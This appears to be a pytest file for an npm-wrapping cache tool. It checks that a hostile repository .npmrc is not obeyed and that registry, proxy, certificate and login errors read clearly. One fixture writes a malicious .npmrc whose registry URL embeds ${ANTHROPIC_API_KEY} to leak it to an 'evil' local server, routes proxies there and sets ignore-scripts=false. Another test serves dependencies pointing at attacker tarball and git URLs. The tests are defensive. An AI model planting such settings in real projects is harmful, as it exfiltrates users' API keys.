"""The real npm: what lies in the user's directory is not obeyed, and a company's registry is understood."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from opencode_cache.base import python
from opencode_cache.base.errors import NetworkError, OpencodeCacheError
from opencode_cache.fetch import tarballs
from opencode_cache.npm import client as npm

sys.path.append(str(Path(__file__).parents[1] / "unit"))
import making
import updating
from hostile import Hostile, certificates, says

SECRET = "sk-very-secret"  # noqa: S105 - not one
NAME, VERSION = "left-pad", "1.3.0"
PACKAGE, TARBALL = making.npm_package(NAME, VERSION)


def forget():
    for remembered in (npm.command, npm._config, npm.registry):
        remembered.cache_clear()


@pytest.fixture(autouse=True)
def _own_settings(tmp_path, monkeypatch):
    """A HOME without settings, of which npm and we know nothing yet."""
    (tmp_path / "home").mkdir()
    for name in list(os.environ):
        if name.lower().startswith("npm_") or name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name in ("XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PATH", _with_npm())
    monkeypatch.setenv("npm_config_fetch_retries", "0")
    forget()
    yield
    forget()


def _with_npm():
    return f"{Path(npm.command()[0]).parent}{os.pathsep}{os.environ['PATH']}"


@pytest.fixture
def start():
    started = []

    def one(answer, tls=None):
        started.append(Hostile(answer, tls))
        return started[-1]

    yield one
    for server in started:
        server.close()


def settings(tmp_path, text):
    (tmp_path / "home" / ".npmrc").write_text(text, encoding="utf-8")


def registry(token=None, versions=(VERSION,)):
    """An honest registry with one package, for those who have the token."""

    def answer(connection, head):
        if token and f"Authorization: Bearer {token}".lower() not in head.lower():
            return says("401 Unauthorized", b"{}")(connection, head)
        host = next(line.split(": ")[1] for line in head.splitlines() if line.lower().startswith("host: "))
        if head.split()[1] == f"/{NAME}":
            dist = {"integrity": PACKAGE.integrity, "tarball": f"http://{host}/x.tgz"}
            entries = {one: {"name": NAME, "version": one, "dist": dist} for one in versions}
            document = {"name": NAME, "dist-tags": {"latest": versions[-1]}, "versions": entries}
            return says("200 OK", json.dumps(document).encode(), "Content-Type: application/json")(
                connection, head
            )
        if head.split()[1] == f"/{NAME}/-/{NAME}-{VERSION}.tgz":
            return says("200 OK", TARBALL)(connection, head)
        return says("404 Not Found", b"{}")(connection, head)

    return answer


# A repository with settings of its own


@pytest.fixture
def repository(tmp_path, monkeypatch, start):
    """The user is in a checkout whose npmrc leads to somebody else's server. What that is asked is wrong."""
    evil = start(says("404 Not Found", b"{}"))
    honest = start(registry())
    settings(tmp_path, f"registry={honest.url}/\n//127.0.0.1:{honest.port}/:_authToken=mine\n")
    root = updating.repository(tmp_path / "repository")
    lines = f"registry={evil.url}/leak-${{ANTHROPIC_API_KEY}}/\nproxy={evil.url}\nhttps-proxy={evil.url}\n"
    lines += f"@ai-sdk:registry={evil.url}/\naudit=true\nignore-scripts=false\n"
    (root / ".npmrc").write_text(lines, encoding="utf-8")
    (root / "package.json").write_text('{"workspaces": ["tmp/*", "tmp/*/*", "tmp/*/*/*"]}', encoding="utf-8")
    (root / "plan.toml").write_text('systems = ["x86_64-linux"]\n', encoding="utf-8")
    for name in ("tmp", "node_modules"):
        (root / name).mkdir()
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    monkeypatch.setenv("TMPDIR", str(root / "tmp"))
    monkeypatch.setattr("tempfile.tempdir", None)
    monkeypatch.chdir(root)
    yield honest
    assert evil.asked == []
    assert SECRET not in "".join(honest.asked)


def test_the_npmrc_there_is_npms_own_choice(repository):
    """What the other tests rest on."""
    done = subprocess.run(
        ["npm", "config", "get", "registry", "--no-update-notifier"],
        capture_output=True,
        text=True,
        cwd=Path.cwd(),
        check=True,
    )
    assert SECRET in done.stdout


def test_no_call_of_npm_obeys_the_users_directory(repository):
    assert npm.registry().default == f"{repository.url}/"
    assert npm.registry().proxies == {}
    assert [entry["version"] for entry in npm.view(NAME)] == [VERSION]
    assert f"node_modules/{NAME}" in npm.package_lock([f"{NAME}@{VERSION}"])["packages"]
    with npm.project({"dependencies": {NAME: VERSION}}) as directory:
        (directory / "node_modules" / NAME).mkdir(parents=True)
        manifest = {"name": NAME, "version": VERSION}
        (directory / "node_modules" / NAME / "package.json").write_text(
            json.dumps(manifest), encoding="utf-8"
        )
        assert "error" in npm.audit_signatures(directory)
    assert repository.asked != []


@pytest.mark.parametrize(
    "arguments",
    [
        ("lock", "--plan", "plan.toml"),
        ("run", "--plan", "plan.toml", "--", "models"),
        ("update", "--opencode-version", "1.18.33", "--system", "x86_64-linux"),
        ("fetch", "nix/locks/opencode-cache.lock.json", "--to", "there"),
    ],
    ids=lambda arguments: arguments[0],
)
def test_no_command_obeys_it(repository, arguments):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        nowhere = f"http://127.0.0.1:{free.getsockname()[1]}"
        done = subprocess.run(
            python.command("-m", "opencode_cache", *arguments),
            env=os.environ
            | python.path()
            | {"OPENCODE_CACHE_GITHUB": nowhere, "OPENCODE_CACHE_GITHUB_API": nowhere},
            cwd=Path.cwd(),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    assert done.returncode in (2, 3), done.stderr
    assert "Traceback" not in done.stderr
    assert repository.asked != []


def test_nothing_but_the_registry_is_fetched_where_npm_can_be_told_so(start, tmp_path):
    """A package that depends on an address or a git repository leads nowhere."""
    evil = start(says("404 Not Found", b"{}"))

    def answer(connection, head):
        dist = {"integrity": PACKAGE.integrity, "tarball": f"{evil.url}/x.tgz"}
        needs = {"a": f"{evil.url}/a.tgz", "b": f"git+{evil.url}/b.git"}
        entry = {"name": NAME, "version": VERSION, "dist": dist, "dependencies": needs}
        document = {"name": NAME, "dist-tags": {"latest": VERSION}, "versions": {VERSION: entry}}
        says("200 OK", json.dumps(document).encode())(connection, head)

    settings(tmp_path, f"registry={start(answer).url}/\n")
    if "allow-git" not in npm._config():
        assert npm._safe() == ["--ignore-scripts"]
        pytest.skip("needs an npm that knows allow-git")
    assert npm._safe() == ["--ignore-scripts", "--allow-git=none", "--allow-remote=none"]
    with pytest.raises(OpencodeCacheError):
        npm.package_lock([f"{NAME}@{VERSION}"])
    assert evil.asked == []


# What a bank meets first


def both(tmp_path, spec=NAME, package=PACKAGE):
    """What the lock step (npm) and the fetch step (our client) say."""
    said = []
    for call in (lambda: npm.view(spec), lambda: tarballs.fetch([package], tmp_path / "to")):
        try:
            call()
        except NetworkError as error:
            said.append(str(error))
        else:
            said.append("")
    assert all(len(one.splitlines()) <= 1 for one in said)
    return said


def test_a_company_that_signs_its_own_certificates(start, tmp_path):
    context, authority = certificates(tmp_path)
    server = start(registry(), context)
    settings(tmp_path, f"registry={server.url}/\n")
    for said in both(tmp_path):
        assert "the certificate of 127.0.0.1 is not one that this machine trusts" in said
        assert "npm config set cafile" in said
    forget()
    settings(tmp_path, f"registry={server.url}/\ncafile={authority}\n")
    assert both(tmp_path) == ["", ""]
    forget()
    other = tmp_path / "other"
    other.mkdir()
    settings(tmp_path, f"registry={server.url}/\ncafile={certificates(other)[1]}\n")
    for said in both(tmp_path, "other", making.package("other")):  # npm remembers the first
        assert f"(now {other / 'ca.pem'})" in said


def test_a_registry_that_wants_a_login(start, tmp_path):
    server = start(registry(token="secret"))  # noqa: S106 - not one
    settings(tmp_path, f"registry={server.url}/\n")
    npmrc = tmp_path / "home" / ".npmrc"
    for said in both(tmp_path):
        assert (
            f"{server.url} wants a login for its packages, which is read from {npmrc}; there is none" in said
        )
        assert f"//127.0.0.1:{server.port}/:_authToken=TOKEN" in said
    forget()
    settings(tmp_path, f"registry={server.url}/\n//127.0.0.1:{server.port}/:_authToken=wrong\n")
    for said in both(tmp_path):
        assert "is refused" in said
        assert "wrong" not in said
    forget()
    settings(tmp_path, f"registry={server.url}/\n//127.0.0.1:{server.port}/:_authToken=secret\n")
    assert both(tmp_path) == ["", ""]


def test_a_scope_with_a_registry_of_its_own_that_wants_a_login(start, tmp_path):
    server = start(registry(token="secret"))  # noqa: S106
    settings(tmp_path, f"registry={start(registry()).url}/\n@bank:registry={server.url}/npm/\n")
    for said in both(tmp_path, "@bank/tool", making.package("@bank/tool")):
        assert f"{server.url}/npm wants a login for packages of @bank" in said


def test_a_registry_that_forbids(start, tmp_path):
    server = start(says("403 Forbidden", b"{}"))
    settings(tmp_path, f"registry={server.url}/\n")
    for said in both(tmp_path):
        assert f"{server.url} does not give {NAME} to the login in" in said


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_proxy_that_wants_a_login(start, tmp_path, scheme):
    proxy = start(says("407 Proxy Authentication Required", b"", "Proxy-Authenticate: Basic"))
    lines = f"registry={scheme}://registry.test/\nproxy={proxy.url}\nhttps-proxy={proxy.url}\n"
    settings(tmp_path, lines)
    for said in both(tmp_path):
        assert "the proxy 127.0.0.1 wants a login; write it as http://USER:PASSWORD@HOST:PORT" in said
        assert str(tmp_path / "home" / ".npmrc") in said


def test_nobody_there(tmp_path):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        settings(tmp_path, f"registry=http://127.0.0.1:{free.getsockname()[1]}/\n")
        for said in both(tmp_path):
            assert "nobody answers at 127.0.0.1; check `registry` in" in said


def test_a_name_that_the_dns_does_not_know(tmp_path, monkeypatch):
    """npm says so by its code; no name server is asked here."""
    npms = tmp_path / "bin" / "npm"
    npms.parent.mkdir()
    config = json.dumps(
        {"registry": "https://registry.test/", "userconfig": str(tmp_path / "home" / ".npmrc")}
    )
    npms.write_text(
        f"#!/bin/sh\n[ $1 = config ] && {{ echo '{config}'; exit; }}\n"
        "echo 'npm error code ENOTFOUND' >&2\n"
        "echo 'npm error network request to https://registry.test/left-pad failed' >&2; exit 1\n",
        encoding="utf-8",
    )
    npms.chmod(0o755)
    monkeypatch.setenv("PATH", f"{npms.parent}{os.pathsep}{os.environ['PATH']}")
    forget()

    def unknown(*_, **__):
        raise socket.gaierror(-2, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    for said in both(tmp_path):
        assert "no address is known for registry.test; check `registry` in" in said
        assert "https-proxy" in said


def test_a_mirror_that_lacks_one_version(start, tmp_path):
    server = start(registry(versions=("1.2.0",)))
    settings(tmp_path, f"registry={server.url}/\n")
    for said in both(tmp_path, f"{NAME}@{VERSION}", making.package(NAME, "1.4.0")):
        assert f"{server.url} does not have it; if that is a mirror, let it take this version over" in said
